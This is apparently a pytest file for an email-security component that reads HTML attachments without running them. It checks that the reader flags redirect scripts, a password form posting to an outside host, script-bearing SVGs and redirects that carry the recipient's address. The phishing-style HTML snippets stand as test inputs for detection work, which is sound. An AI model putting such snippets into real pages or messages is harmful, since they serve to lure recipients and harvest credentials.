"""What an attached page does when it is opened, read and never run."""

from datetime import UTC, datetime

import pytest

from features.context import Context, Limits
from features.envelope import Envelope, Incoming
from features.evidence import extract
from features.pages import read_page

MAIL = b"""From: a@kestrel-metals.com
To: alex.morgan@brookvale.org
Content-Type: text/html; name="a.html"
Content-Disposition: attachment; filename="a.html"

"""


def _page(source):
    incoming = Incoming(Envelope(id="x", received_at=datetime(2025, 11, 11, tzinfo=UTC)), b"")
    evidence = extract(incoming._replace(raw=MAIL + source.encode()), Context())
    (part,) = evidence.message.attachments
    return read_page(part, evidence.headers, Limits())


@pytest.mark.parametrize(
    "source",
    [
        "<meta http-equiv=refresh content='0;url=https://quarrybrook.net/x'>",
        "<script>window.location = 'https://quarrybrook.net/x'</script>",
        "<script>location.href='https://quarrybrook.net/x'</script>",
        '<script>top.location.replace("https://quarrybrook.net/x")</script>',
        "<body onload=\"location.assign('https://quarrybrook.net/x')\">",
    ],
)
def test_each_way_of_sending_the_reader_on_is_seen(source):
    assert [link.host for link in _page(source).moves] == ["quarrybrook.net"]


def test_a_link_to_be_clicked_sends_nobody_on():
    assert _page("<a href='https://quarrybrook.net/x'>the list</a>").moves == ()


def test_a_form_with_a_password_tells_where_it_sends_it():
    page = _page("<form action='https://quarrybrook.net/in'><input type=password></form>")

    assert page.passwords == 1
    assert [link.host for link in page.sends] == ["quarrybrook.net"]


@pytest.mark.parametrize(
    "source",
    [
        "<svg onload='x()'>",
        "<svg><foreignObject>",
        "<svg><script>x()</script>",
        "<svg><a href='javascript:x()'>",
    ],
)
def test_a_drawing_with_script_or_a_page_in_it_is_active(source):
    assert _page(source).active


def test_a_plain_drawing_is_not():
    assert not _page("<svg><circle r='4'/></svg>").active


def test_a_page_that_carries_the_recipient_says_so():
    page = _page("<script>location='https://q.net/?u=alex.morgan@brookvale.org'</script>")

    assert "recipient_clear" in page.moves[0].traits


def test_a_page_with_much_text_is_there_to_be_read():
    assert _page("<p>Loading</p>").short
    assert not _page("<p>word </p>" * 1_000).short
